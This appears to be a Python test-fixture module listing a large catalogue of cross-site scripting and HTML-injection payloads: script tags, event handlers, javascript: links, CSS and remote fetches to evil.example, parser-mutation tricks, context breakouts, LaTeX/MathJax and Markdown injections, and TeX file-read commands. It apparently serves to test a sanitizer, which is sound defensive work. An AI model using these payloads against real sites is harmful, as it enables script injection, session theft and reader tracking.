r"""Known ways to make a page run what its data says: scripts, requests, styles and broken structure.

What would run sets `window.__hit` or opens a dialog; what would be fetched comes from evil.example.
"""

from __future__ import annotations

RUN = "window.__hit=1"

SCRIPTS = [
    f"<script>{RUN}</script>",  # plain
    f"<ScRiPt>{RUN}</sCrIpT>",  # mixed case
    "<script src=//evil.example/x.js></script>",  # without a scheme
    '<script src="https://evil.example/x.js" async></script>',  # remote
    "<script src=data:text/javascript,window.__hit=1></script>",  # from its own address
    f"<script\n>{RUN}</script\n>",  # line ends in the tags
    f"<script/x>{RUN}</script>",  # a slash instead of a blank
    f"<script\x0c>{RUN}</script>",  # a form feed instead of a blank
    f'<script type="module">{RUN}</script>',  # module
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",  # nested, for filters that cut once
    f"<<script>{RUN}//<</script>",  # doubled bracket
    f"<script>{RUN}",  # never closed
    f"<svg><script>{RUN}</script></svg>",  # of SVG
    "<svg><script href=data:text/javascript,window.__hit=1 /></svg>",  # of SVG, by address
    "<svg><script xlink:href=//evil.example/x.js></script></svg>",  # of SVG, by the older attribute
    "<svg><script>&#119;indow.__hit=1</script></svg>",  # entities are read in SVG
    f"<math><script>{RUN}</script></math>",  # inside mathematics
    f"&lt;script&gt;{RUN}&lt;/script&gt;",  # escaped once, for those who unescape
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",  # escaped twice
    f"&#60;script&#62;{RUN}&#60;/script&#62;",  # decimal entities
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",  # hexadecimal entities
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",  # escapes of JSON
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",  # escapes of a script's strings
    f"%3Cscript%3E{RUN}%3C/script%3E",  # escapes of an address
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",  # UTF-7
    f"＜script＞{RUN}＜/script＞",  # full-width brackets, for those who normalise
    f"\xc0\xbcscript\xc0\xbe{RUN}\xc0\xbc/script\xc0\xbe",  # overlong UTF-8, read as Latin-1
]

HANDLERS = [
    f"<img src=x onerror={RUN}>",  # a picture that fails
    f"<img src=x onerror={RUN}//",  # never closed
    f"<IMG SRC=x OnErRoR={RUN}>",  # mixed case
    f'<img src="x" onerror="{RUN}">',  # quoted
    f"<img src='x' onerror='{RUN}'>",  # single quotes
    f"<img src=`x` onerror=`{RUN}`>",  # backquotes
    f"<img/src=x/onerror={RUN}>",  # slashes for blanks
    f"<img src=x\tonerror\n=\r{RUN}>",  # tabs and line ends
    f"<img src=x:x onerror\x0c={RUN}>",  # a form feed before the sign
    "<img src=x onerror=&#119;&#105;ndow.__hit=1>",  # entities in the value
    "<image src=x onerror=window.__hit=1>",  # an element that becomes img
    f"<svg onload={RUN}>",  # as soon as it is there
    f"<svg/onload={RUN}>",  # the same with a slash
    f"<svg><g onload={RUN}></g></svg>",  # in a group
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",  # an animation begins
    f"<svg><set onbegin={RUN} attributeName=x>",  # a change begins
    f"<svg><image href=x onerror={RUN}></svg>",  # a picture of SVG
    f"<body onload={RUN}>",  # on a second body
    f"<body onpageshow={RUN}>",  # the page is shown
    f"<html onmouseover={RUN}>",  # on a second root
    f"<frameset onload={RUN}>",  # instead of a body
    f"<input autofocus onfocus={RUN}>",  # takes the focus by itself
    f"<select autofocus onfocus={RUN}><option>x</select>",  # the same
    f"<textarea autofocus onfocus={RUN}></textarea>",  # the same
    f"<button autofocus onfocus={RUN}>x</button>",  # the same
    f"<a href=# autofocus onfocus={RUN}>x</a>",  # a link that takes the focus
    f"<p tabindex=0 autofocus onfocus={RUN}>x</p>",  # any element that takes the focus
    f"<p contenteditable autofocus onfocusin={RUN}>x</p>",  # one that can be edited
    f"<details open ontoggle={RUN}><summary>x</summary></details>",  # opens by itself
    f"<video src=x onerror={RUN}></video>",  # a film that fails
    f"<video><source onerror={RUN}></video>",  # its source
    f"<audio src=x onerror={RUN}></audio>",  # a sound that fails
    f"<object data=x onerror={RUN}></object>",  # an object that fails
    f"<embed src=x onload={RUN}>",  # an embedded page
    f"<iframe onload={RUN}></iframe>",  # an empty frame
    f"<link rel=stylesheet href=x onerror={RUN}>",  # a style sheet that fails
    f"<style onload={RUN}></style>",  # a style that is there
    f"<marquee onstart={RUN}>x</marquee>",  # moving text begins
    f"<div onpointerrawupdate={RUN} onmouseover={RUN} style=width:9999px;height:9999px>x</div>",  # under the mouse
    f"<p onclick={RUN} onmouseenter={RUN} onwheel={RUN}>x</p>",  # by hand
    f"<div style=animation-name:x onanimationstart={RUN}>x</div>",  # a style's animation begins
    f"<div style=transition:1s ontransitionend={RUN}>x</div>",  # or ends
    f"<p popover id=p onbeforetoggle={RUN}>x</p><button popovertarget=p>x</button>",  # a popover opens
    f"<x onfocus={RUN} id=x tabindex=1>#x",  # an unknown element
    f"<xss\x00 onmouseover={RUN}>x</xss>",  # a null byte in its name
]

ADDRESSES = [
    f'<a href="javascript:{RUN}">x</a>',  # plain
    f'<a href="JaVaScRiPt:{RUN}">x</a>',  # mixed case
    f'<a href=" javascript:{RUN}">x</a>',  # a blank before
    f'<a href="\x01javascript:{RUN}">x</a>',  # a control character before
    f'<a href="java\tscript:{RUN}">x</a>',  # a tab inside
    f'<a href="java\nscript:{RUN}">x</a>',  # a line end inside
    f'<a href="java&#10;script:{RUN}">x</a>',  # the same as an entity
    f'<a href="&#106;avascript:{RUN}">x</a>',  # a letter as an entity
    f'<a href="&#x6A&#x61vascript:{RUN}">x</a>',  # without semicolons
    f'<a href="javascript&colon;{RUN}">x</a>',  # the colon by its name
    f'<a href="javascript&#0000058{RUN}">x</a>',  # the colon with zeros before
    '<a href="vbscript:msgbox(1)">x</a>',  # of another language
    f'<a href="livescript:{RUN}">x</a>',  # of the oldest
    '<a href="data:text/html,<script>window.__hit=1</script>">x</a>',  # a page in the address
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==">x</a>',  # coded
    '<a href="//evil.example">x</a>',  # without a scheme
    '<a href="\\\\evil.example">x</a>',  # backslashes that browsers turn round
    '<a href="file:///etc/passwd">x</a>',  # a file
    '<a href="https://evil.example" ping="https://evil.example/p" target=_top>x</a>',  # tells when clicked
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',  # a link of SVG
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}/>#x"/></svg>',  # a drawing from an address
    f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=9>x</text></a></svg>',  # animated
    f'<math><a xlink:href="javascript:{RUN}">x</a></math>',  # a link inside mathematics
    f'<math href="javascript:{RUN}">x</math>',  # any element of mathematics
    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',  # a letter
    # action:
    f'<math><maction actiontype="statusline#//evil.example" href="javascript:{RUN}">x<mi>y</mi></maction></math>',
    f'<form action="javascript:{RUN}"><input type=submit></form>',  # a form's
    f'<button formaction="javascript:{RUN}" form=x>x</button>',  # a button's
    f'<isindex action="javascript:{RUN}" type=image>',  # an old form
    f'<iframe src="javascript:{RUN}"></iframe>',  # a frame's
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',  # a frame's page
    '<iframe src="//evil.example"></iframe>',  # a remote frame
    f'<object data="javascript:{RUN}"></object>',  # an object's
    '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg=="></object>',  # coded
    f'<embed src="javascript:{RUN}">',  # an embedded page's
    '<embed src="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml">',  # a drawing
    '<base href="https://evil.example/">',  # moves all addresses of the page
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',  # leaves the page
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',  # the same, running
    '<link rel="import" href="//evil.example/x.html">',  # another page
    '<link rel="prefetch" href="//evil.example/x">',  # asks in advance
    '<area shape=default href="javascript:window.__hit=1">',  # of a map in a picture
    f'<applet code="javascript:{RUN}"></applet>',  # an applet
    f'<bgsound src="javascript:{RUN}">',  # a sound behind the page
]

STYLES = [
    "<style>*{background:url(//evil.example/s)}</style>",  # a style asks
    "<style>@import '//evil.example/s.css';</style>",  # a style imports
    "<style>body{display:none}</style>",  # a style hides
    '<p style="background:url(//evil.example/p)">x</p>',  # an attribute asks
    '<p style="background:u\\72l(//evil.example/p)">x</p>',  # with an escape
    "<p style=\"background-image:image-set('//evil.example/p' 1x)\">x</p>",  # without url
    '<p style="width:expression(window.__hit=1)">x</p>',  # of old browsers
    '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',  # of old browsers
    '<p style="behavior:url(//evil.example/x.htc)">x</p>',  # of old browsers
    '<p style="position:fixed;inset:0;z-index:99999">over the page</p>',  # covers the page
    '<link rel="stylesheet" href="//evil.example/s.css">',  # a remote style
    '<font face="x" style="font-family:url(//evil.example/f)">x</font>',  # a font
    '<img src="https://evil.example/pixel.png">',  # a picture that counts readers
    '<img srcset="//evil.example/a.png 1x, //evil.example/b.png 2x" src=data:,>',  # one of several
    '<picture><source srcset="//evil.example/a.webp"><img src=data:,></picture>',  # the same
    '<video poster="//evil.example/p.png"></video>',  # the picture of a film
    '<audio src="//evil.example/a.ogg" autoplay></audio>',  # a sound
    '<input type=image src="//evil.example/i.png">',  # a button that is a picture
    '<table background="//evil.example/t.png"><tr><td>x</table>',  # behind a table
    '<body background="//evil.example/b.png">',  # behind the page
    "<svg><image href=//evil.example/i.svg></svg>",  # of SVG
    "<svg><filter><feImage href=//evil.example/f.png></filter></svg>",  # of a filter
    "<svg><use href=//evil.example/u.svg#x></svg>",  # of a drawing
    "<svg><style>@import url(//evil.example/s.css)</style></svg>",  # a style in SVG
    '<math><mglyph src="//evil.example/g.png"></math>',  # of mathematics
]

MUTATIONS = [
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',  # read otherwise with scripts on
    f'<template><p title="</template><img src=x onerror={RUN}>">',  # in a template
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",  # in a shadow
    f'<title><p title="</title><img src=x onerror={RUN}>">',  # in a title
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',  # in raw text
    f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',  # in a field
    f'<select><style><p title="</style></select><img src=x onerror={RUN}>">',  # in a choice
    f'<noembed><p title="</noembed><img src=x onerror={RUN}>">',  # in raw text
    f'<iframe><p title="</iframe><img src=x onerror={RUN}>">',  # in a frame's text
    f"<plaintext><img src=x onerror={RUN}>",  # everything after it is text
    # moved out of a table:
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    # HTML in mathematics:
    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={RUN}></style></annotation-xml></math>',
    f'<math><annotation-xml encoding="application/xhtml+xml"><svg onload={RUN}></annotation-xml></math>',  # the same
    # its encoding:
    f'<math><semantics><mi>x</mi><annotation encoding="</annotation><img src=x onerror={RUN}>">y</semantics></math>',
    f'<math><mi//xlink:href="data:x,<script>{RUN}</script>">',  # slashes
    f'<svg></p><style><g title="</style><img src=x onerror={RUN}>">',  # a paragraph's end in SVG
    f"<svg><foreignObject><p onclick={RUN}><img src=x onerror={RUN}></foreignObject></svg>",  # HTML in SVG
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",  # nested forms
    f'<p id="</p><img src=x onerror={RUN}>">x',  # a tag in an attribute
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",  # a section that HTML does not know
    f"<![CDATA[<script>{RUN}</script>]]>",  # the same outside SVG
    f"]]><script>{RUN}</script>",  # the end of a section
    f"--><script>{RUN}</script><!--",  # the end of a comment
    f"--!><script>{RUN}</script>",  # the end of a comment that only browsers know
    f"<!--><script>{RUN}</script>-->",  # a comment that ends at once
    f"<!-- --!><img src=x onerror={RUN}> -->",  # and one that ends oddly
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",  # a conditional comment
    f'<?xml version="1.0"?><script>{RUN}</script>',  # an instruction
    f'<!DOCTYPE x [<!ENTITY e "<script>{RUN}</script>">]>&e;',  # an entity of one's own
    f"<?php echo '<img src=x onerror={RUN}>' ?>",  # an instruction with a tag
]

BREAKS = [
    f"</td></tr></table><script>{RUN}</script>",  # out of a table
    f"</caption></table><img src=x onerror={RUN}>",  # out of its caption
    f"</title></head><body onload={RUN}>",  # out of the head
    f"</style><script>{RUN}</script>",  # out of a style
    f"</script><script>{RUN}</script>",  # out of a script or its data
    f"</textarea></select></button><img src=x onerror={RUN}>",  # out of fields
    f"</math></svg><img src=x onerror={RUN}>",  # out of mathematics
    f"</div></div></main></body></html><script>{RUN}</script>",  # out of the page
    f'"><script>{RUN}</script>',  # out of an attribute
    f"'><img src=x onerror={RUN}>",  # out of one in single quotes
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',  # another attribute
    f"' onmouseover='{RUN}' x='",  # the same in single quotes
    f"x onclick={RUN} ",  # where nothing is quoted
    f"`-{RUN}-`",  # out of a template string
    f"';{RUN};//",  # out of a script's string
    f'";{RUN};//',  # the same with double quotes
    f'\\";{RUN};//',  # with the quote escaped away
    f"${{{RUN}}}",  # a template's value
    f"{{{{constructor.constructor('{RUN}')()}}}}",  # a template of a framework
    f"\u2028{RUN}//",  # a line end that only scripts know
    f"</script\x00><script\x00>{RUN}</script>",  # null bytes in names
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",  # inside the name
    f"\x00<img src=x onerror={RUN}>\x00",  # around a tag
    f"\ud83d<script>{RUN}</script>",  # half of a character before a tag
    f"\ufeff<script>{RUN}</script>",  # a mark of byte order
    f"\u202e>tpircs/<{RUN}>tpircs<",  # written from right to left
    "<a title='\ue000 0\ue001 \ue0000\ue001'>\ue0000\ue001</a>",  # private signs, which may stand for formulas
    '<p id="location" name="document" class="mirblab-browse">x</p>',  # a name that hides one of the page's
    # names of the page's functions:
    '<form id="__proto__"><input name="children"><input name="querySelectorAll"></form>',
    "__proto__",  # a name that is none
    "constructor",  # another
    "<img src=x onerror=window.__hit=1" + " x=" * 3000,  # a tag without end
    "<b>" * 400 + "deep",  # many that are open
]

LATEX = [
    rf"$\href{{javascript:{RUN}}}{{x}}$",  # a link
    rf"$\href{{ java&#10;script:{RUN}}}{{x}}$",  # with an entity
    rf"$\url{{javascript:{RUN}}}$",  # an address
    r"$\includegraphics[width=1in]{https://evil.example/x.png}$",  # a picture
    rf"$\htmlData{{onload={RUN}}}{{x}}$",  # data of an element
    rf"$\htmlId{{x' onclick='{RUN}}}{{x}}$",  # its name
    r"$\htmlStyle{background:url(//evil.example/x)}{x}$",  # its style
    r"$\htmlClass{jp-Notebook}{x}$",  # its class
    rf"$\style{{background:url(//evil.example/x);width:expression({RUN})}}{{x}}$",  # the same of MathJax
    rf'$\class{{x" onmouseover="{RUN}}}{{x}}$',  # a class that ends
    rf'$\cssId{{x"><img src=x onerror={RUN}>}}{{x}}$',  # a name that ends
    r"$\unicode[url(//evil.example/f)]{x3c}script\unicode{x3e}$",  # signs by number
    r"$\unicode{60}img src=x onerror=window.__hit=1\unicode{62}$",  # the same
    r"$\require{html}\require{action}\toggle{x}{\href{javascript:window.__hit=1}{y}}\endtoggle$",  # an extension
    rf"$\text{{<img src=x onerror={RUN}>}}$",  # text
    rf"$\mathrm{{</math><script>{RUN}</script>}}$",  # the end of mathematics
    rf"$\operatorname{{</mo></math><img src=x onerror={RUN}>}}$",  # a name
    rf"$x</mi></math><script>{RUN}</script>$",  # in the open
    rf"$$\tag{{<script>{RUN}</script>}} x$$",  # a number of an equation
    rf"\begin{{align}}x&<img src=x onerror={RUN}>\\y\end{{align}}",  # an environment
    rf"\[\begin{{array}}{{c\" onclick={RUN}}}x\end{{array}}\]",  # columns of an array
    r"\(\color{red;background:url(//evil.example/c)}{x}\)",  # a colour
    r"$\bbox[border:1px solid;background:url(//evil.example/b)]{x}$",  # a box
    rf"$\enclose{{x\" onclick=\"{RUN}}}[mathcolor=red]{{x}}$",  # notation
    r"$\mmlToken{mi}[href='javascript:window.__hit=1']{x}$",  # an element of mathematics
    r"$\def\x{\x\x}\x$",  # a macro that grows
    r"$\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{xxxxxxxxxx}\a\a\a$",  # macros that grow
    r"$\newcommand{\x}[1]{<script>#1</script>}\x{window.__hit=1}$",  # one that writes a tag
    r"$\input{/etc/passwd}\write18{touch hit}\catcode`\<=13$",  # commands of TeX
    "$" + "{" * 600 + "x" + "}" * 600 + "$",  # deep
    "$x^" + "{x^" * 300 + "$",  # deep and open
]

MARKDOWN = [
    f"[x](javascript:{RUN})",  # a link
    f"[x](JaVaScRiPt&colon;{RUN})",  # with an entity
    "![x](https://evil.example/x.png)",  # a picture
    f'![x](x "\\" onerror={RUN}")',  # its title
    f"<javascript:{RUN}>",  # an address by itself
    f"[x]: javascript:{RUN}\n\n[x]",  # a link by reference
    f"```\n</code></pre><script>{RUN}</script>\n```",  # out of code
    f"`x`</code><img src=x onerror={RUN}>`",  # out of a word of code
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | x |",  # a table
    f"# x\n\n<details open ontoggle={RUN}>\n\n> x",  # HTML among it
    f"\\<script\\>{RUN}\\</script\\>",  # escaped brackets
    "[x](https://evil.example/?$x$ 'y')",  # a formula in an address
]  # fmt: skip

ATTACKS: list[str] = [
    *SCRIPTS, *HANDLERS, *ADDRESSES, *STYLES, *MUTATIONS, *BREAKS, *LATEX, *MARKDOWN,
]  # fmt: skip
